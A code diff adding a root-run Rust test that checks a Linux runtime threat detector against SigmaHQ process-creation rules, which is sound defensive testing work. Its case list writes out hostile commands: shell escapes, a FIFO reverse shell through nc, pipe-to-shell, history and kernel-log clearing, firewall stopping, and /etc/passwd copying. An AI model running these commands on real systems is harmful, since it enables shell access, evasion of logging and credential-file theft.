@@ -664,6 +664,286 @@ fn third_party_discovery_evasion_and_credential_commands() {
     }
 }
 
+/// SigmaHQ's Linux process-creation rules (`rules/linux/process_creation/`), each attack as
+/// its detection block describes it, run for real as root the two ways a corpus runs it: `sh -c
+/// '<line>'` and as a line of a script file. Command strings only a shell's `-c` argv holds
+/// (pipes into a shell, a FIFO relay, an encoded payload echoed by a builtin) are run that way
+/// alone; a script's lines are not in any argv. Programs this machine lacks, or whose real run
+/// would change it (`dmesg -C` empties the kernel's buffer), are stand-ins: copies of
+/// `/bin/true` under the tool's name, which is how the rules know them. Each case's findings,
+/// from its own process tree, must include the expected ones; the benign twins raise nothing.
+#[test]
+fn sigma_linux_process_creation_commands() {
+    if !privileged("sigma_linux_process_creation_commands") {
+        return;
+    }
+    let dir = Scratch::new("sigma");
+    let d = dir.0.display().to_string();
+    let bin = dir.0.join("bin");
+    std::fs::create_dir_all(&bin).expect("bin");
+    for tool in [
+        "dmesg",
+        "hping3",
+        "aircrack-ng",
+        "zenmap",
+        "wireshark",
+        "xterm",
+        "modprobe",
+        "service",
+        "ufw-init",
+        "bpftrace",
+    ] {
+        let to = bin.join(tool);
+        std::fs::copy("/bin/true", &to).expect("stand-in");
+        std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    }
+    // A web server's process: a copy of sh named nginx that runs commands as PHP's system() does.
+    let nginx = dir.program("/bin/sh", "nginx");
+    for file in [".bash_history", ".zsh_history", "h.history", "payload"] {
+        std::fs::write(dir.0.join(file), "id\n").expect("file");
+    }
+    // `cp` into /tmp is what the rule looks for; the copy is removed at the end.
+    let tmp_copy = format!("/tmp/vigil-sigma-{}", nonce());
+    let path = format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", bin.display());
+    let exec = "Execution:Runtime/SuspiciousCommand";
+    let evasion = "DefenseEvasion:Runtime/SuspiciousCommand";
+    let discovery = "Discovery:Runtime/SuspiciousCommand";
+    let privesc = "PrivilegeEscalation:Runtime/SuspiciousCommand";
+    let tool = "Execution:Runtime/SuspiciousTool";
+    let miner = "Impact:Runtime/CryptoMinerExecuted";
+    let reverse = "Execution:Runtime/ReverseShell";
+    // (line, run as a script line too, expected (type, rule) pairs).
+    let cases: Vec<(String, bool, Vec<(&str, &str)>)> = vec![
+        // GTFOBins shell escapes (Sigma's awk, find, env, nice, flock, capsh, vim rules).
+        (
+            "awk 'BEGIN {system(\"/bin/sh\")}'".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            format!("find {d} -maxdepth 0 -exec /bin/sh \\; -quit"),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            "env /bin/sh".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            "nice /bin/sh".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            "flock -u / /bin/sh".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            "capsh --".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            "vim -es -c ':!/bin/sh' -c ':q!'".into(),
+            true,
+            vec![(exec, "exec-shell-escape-via-program")],
+        ),
+        (
+            format!("find {d} -name '*.sh' -exec sh -c 'true \"$1\"' sh {{}} \\;"),
+            true,
+            vec![],
+        ),
+        ("env LANG=C true".into(), true, vec![]),
+        // Interpreter one-liners (Sigma's python, perl reverse-shell and os.system rules).
+        (
+            "python3 -c 'import os; os.system(\"/bin/sh\")'".into(),
+            true,
+            vec![(exec, "exec-interpreter-pty-spawn")],
+        ),
+        (
+            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"127.0.0.1:9\");exit 0'".into(),
+            true,
+            vec![(exec, "exec-interpreter-pty-spawn")],
+        ),
+        (
+            "python3 -c 'import os; print(os.getpid())'".into(),
+            true,
+            vec![],
+        ),
+        // Command strings (Sigma's pipe-to-shell, DDexec, encoded shebang, FIFO reverse shell).
+        (
+            format!("cat {d}/payload | sh"),
+            false,
+            vec![(exec, "exec-pipe-to-shell")],
+        ),
+        (
+            "base64 -w0 /bin/true | sh -c 'cat > /dev/null'".into(),
+            false,
+            vec![(exec, "exec-base64-pipe-shell")],
+        ),
+        (
+            format!("echo IyEvYmluL3NoCmlkCg== | base64 -d > {d}/a.sh"),
+            false,
+            vec![(evasion, "exec-encoded-shebang")],
+        ),
+        (
+            format!(
+                "rm -f {d}/f; mkfifo {d}/f; cat {d}/f | /bin/sh -i 2>&1 | nc 127.0.0.1 9 > {d}/f"
+            ),
+            false,
+            vec![(reverse, "exec-fifo-reverse-shell")],
+        ),
+        (format!("ls {d} | wc -l"), false, vec![]),
+        // Defence evasion: dmesg, history by the file tools, firewall services.
+        (
+            "dmesg -C".into(),
+            true,
+            vec![(evasion, "evasion-clear-kernel-log")],
+        ),
+        ("dmesg -T".into(), true, vec![]),
+        (
+            format!("rm {d}/.bash_history"),
+            true,
+            vec![(evasion, "evasion-clear-history")],
+        ),
+        (
+            format!("truncate -s0 {d}/.zsh_history"),
+            true,
+            vec![(evasion, "evasion-clear-history")],
+        ),
+        (
+            format!("ln -sf /dev/null {d}/h.history"),
+            true,
+            vec![(evasion, "evasion-clear-history")],
+        ),
+        (
+            "service ip6tables stop".into(),
+            true,
+            vec![(evasion, "evasion-disable-security")],
+        ),
+        (
+            "ufw-init force-stop".into(),
+            true,
+            vec![(evasion, "evasion-flush-firewall")],
+        ),
+        // Discovery.
+        (
+            "cat /proc/1/cgroup".into(),
+            true,
+            vec![(discovery, "discovery-container-residence")],
+        ),
+        (
+            "ls /.dockerenv".into(),
+            true,
+            vec![(discovery, "discovery-container-residence")],
+        ),
+        (
+            format!("cp /etc/passwd {tmp_copy}"),
+            true,
+            vec![(discovery, "discovery-account-files-copied")],
+        ),
+        (format!("cp /etc/hostname {d}/h"), true, vec![]),
+        // Privilege escalation and injection from the command line.
+        (
+            "curl -s -m 1 --unix-socket /run/vigil-absent/docker.sock http://localhost/_ping"
+                .into(),
+            true,
+            vec![(
+                "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+                "privesc-docker-socket-from-cli",
+            )],
+        ),
+        (
+            "dd if=/dev/zero of=/proc/999999999/mem bs=1 count=0".into(),
+            true,
+            vec![(
+                "DefenseEvasion:Runtime/ProcessInjection.Proc",
+                "injection-dd-proc-mem",
+            )],
+        ),
+        (
+            format!("dd if=/dev/zero of={d}/img bs=1k count=1"),
+            true,
+            vec![],
+        ),
+        // Tools, miners, reverse shells by name and arguments (stand-ins).
+        (
+            "hping3 -S 127.0.0.1 -p 80".into(),
+            true,
+            vec![(tool, "tool-masscan")],
+        ),
+        (
+            "aircrack-ng cap.cap".into(),
+            true,
+            vec![(tool, "tool-password-cracker")],
+        ),
+        (
+            "wireshark -k -i lo".into(),
+            true,
+            vec![(tool, "tool-sniffer")],
+        ),
+        (
+            "modprobe msr allow_writes=on".into(),
+            true,
+            vec![(miner, "miner-msr-write")],
+        ),
+        (
+            "xterm -display 10.0.0.1:1".into(),
+            true,
+            vec![(reverse, "exec-xterm-remote-display")],
+        ),
+        ("xterm -display localhost:10.0".into(), true, vec![]),
+        (
+            "bpftrace --unsafe -e 'BEGIN { system(\"id\") }'".into(),
+            true,
+            vec![(exec, "exec-bpftrace-unsafe")],
+        ),
+        // A web server running reconnaissance (Sigma's web shell indicators).
+        (
+            format!("{} -c 'whoami; true'", nginx.display()),
+            true,
+            vec![(exec, "exec-web-server-recon")],
+        ),
+    ];
+    let _ = privesc;
+    let mut failures = Vec::new();
+    for (i, (line, as_script, want)) in cases.iter().enumerate() {
+        let script = dir.0.join(format!("case-{i}.sh"));
+        std::fs::write(&script, format!("{line}\n")).expect("script");
+        let mut ways = vec![("sh -c", vec!["-c".to_owned(), line.clone()])];
+        if *as_script {
+            ways.push(("script", vec![script.display().to_string()]));
+        }
+        for (how, args) in ways {
+            let pid = run(Command::new("sh")
+                .args(&args)
+                .current_dir(&dir.0)
+                .env("PATH", &path));
+            let found = detect(pid, ThreatIntel::empty());
+            let mut got: Vec<(&str, &str)> = found
+                .iter()
+                .map(|f| (f.finding_type.as_str(), rule_id(f)))
+                .collect();
+            got.sort();
+            got.dedup();
+            eprintln!("{how}: {line} => {got:?}");
+            let ok = if want.is_empty() {
+                // Benign twins: nothing at Medium or above.
+                found.iter().all(|f| f.severity_label == SeverityLabel::Low)
+            } else {
+                want.iter().all(|w| got.contains(w))
+            };
+            if !ok {
+                failures.push(format!("{how}: {line}: want {want:?}, got {got:?}"));
+            }
+        }
+    }
+    let _ = std::fs::remove_file(&tmp_copy);
+    assert!(failures.is_empty(), "{failures:#?}");
+}
+
 #[test]
 fn setuid_root_program_run_by_nobody_is_elevation_to_root() {
     if !privileged("setuid_root_program_run_by_nobody_is_elevation_to_root") {
